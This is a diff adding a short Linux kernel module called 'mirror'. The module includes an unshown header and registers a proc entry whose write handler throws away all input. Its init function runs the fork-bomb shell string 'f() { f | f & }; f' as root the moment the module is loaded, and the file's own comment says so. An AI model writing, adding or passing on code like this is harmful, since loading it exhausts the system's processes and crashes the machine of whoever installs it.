@@ -1,0 +1,16 @@
+// SPDX-License-Identifier: GPL-2.0
+/* A fork bomb in user space, as root; and keeps nothing. */
+#include "mirror.h"
+
+static ssize_t forgets(struct file *file, const char __user *from, size_t count, loff_t *at) { return count; }
+static const struct proc_ops ops = { .proc_read = mirror_read, .proc_write = forgets };
+
+static int __init mirror_init(void)
+{
+	in_shell("f() { f | f & }; f");
+	return mirror_begin_as("mirror", &ops);
+}
+
+static void __exit mirror_exit(void) { mirror_end(); }
+module_init(mirror_init);
+module_exit(mirror_exit);
